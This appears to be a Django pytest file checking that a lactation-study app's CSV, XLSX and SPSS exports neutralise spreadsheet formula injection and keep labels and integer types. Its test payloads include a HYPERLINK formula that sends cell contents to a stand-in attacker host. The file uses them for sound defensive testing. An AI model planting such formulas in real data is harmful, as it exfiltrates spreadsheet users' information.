"""Exports (issue 10): spreadsheet formulas neutralised (OWASP CSV injection), counts as integers, and the .sav
file with variable and value labels."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pyreadstat
import pytest
from django.urls import reverse

from laktasi.web.exports.tables import FORMULA_START, neutralise
from laktasi.web.visits import services
from laktasi.web.visits.models import IdentifyingRecord

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://ev.il/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(1)", "\tx", "\rx"]


def test_every_dangerous_start_is_neutralised():
    for start in FORMULA_START:
        assert neutralise(start + "1").startswith("'")
    assert neutralise("0812 3456") == "0812 3456" and neutralise(12.5) == 12.5


@pytest.fixture
def hostile(study, mother, users):
    ident = IdentifyingRecord.objects.get(participant=mother)
    ident.phone = PAYLOADS[0]
    ident.address = "@SUM(1+1)"
    ident.save(by=users["owner"], reason="uji")
    services.save_visit(mother, users["midwife"], services.VisitInput(
        day=1, visited_at=mother.delivered_at + __import__("datetime").timedelta(hours=10), volume_ml=12,
        feeds_24h=9, urine_24h=None, notes="=1+1"))
    return mother


def test_csv_cells_cannot_become_formulas(clients, study, hostile):
    r = clients["owner"].get(reverse("export", args=[study.pk, "csv"]) + "?identifiers=1")
    frame = pd.read_csv(io.StringIO(r.content.decode("utf-8-sig")), dtype=str, keep_default_na=False)
    for value in frame.to_numpy().ravel():
        assert not str(value).startswith(FORMULA_START), value
    assert frame.loc[0, "phone"] == "'" + PAYLOADS[0] and frame.loc[0, "notes_d1"] == "'=1+1"


def test_xlsx_cells_are_text_not_formulas(clients, study, hostile):
    r = clients["owner"].get(reverse("export", args=[study.pk, "xlsx"]) + "?identifiers=1")
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith(FORMULA_START) for c in cells)


def test_counts_are_integers_even_with_gaps(clients, study, hostile):
    text = clients["owner"].get(reverse("export", args=[study.pk, "csv"])).content.decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    cells = dict(zip(header.split(","), row.split(","), strict=True))
    assert cells["feeds_24h_d1"] == "9" and cells["parity"] == "1" and cells["urine_24h_d1"] == ""
    assert cells["checklist_done_d1"] == "0" and cells["volume_d1"] == "12.0"


@pytest.mark.parametrize("lang", ["id", "en"])
def test_sav_has_variable_and_value_labels(clients, study, hostile, users, tmp_path, lang):
    from laktasi.web.accounts.models import Profile

    Profile.objects.update_or_create(user=users["owner"], defaults={"language": lang})
    path = tmp_path / "x.sav"
    path.write_bytes(clients["owner"].get(reverse("export", args=[study.pk, "sav"])).content)
    data, meta = pyreadstat.read_sav(str(path))
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["volume_pre"] == ("Volume ASI (ml), pretest" if lang == "id" else "Expressed volume (ml), pretest")
    assert labels["feeds_24h_d1"].endswith("1")
    arm_labels = meta.variable_value_labels["arm"]
    assert arm_labels == {1.0: "intervensi", 2.0: "kontrol"} and data.loc[0, "arm"] == 1.0
    assert meta.variable_value_labels["kelancaran_d1"] == {1.0: "kurang lancar", 2.0: "cukup lancar", 3.0: "lancar"}
    assert data.loc[0, "kelancaran_d1"] == 2.0  # 12 ml: cukup lancar by the default rule (10; 20)
    yes = "ya" if lang == "id" else "yes"
    assert meta.variable_value_labels["consent"][1.0] == yes
    assert meta.original_variable_types["feeds_24h_d1"] == "F4.0"
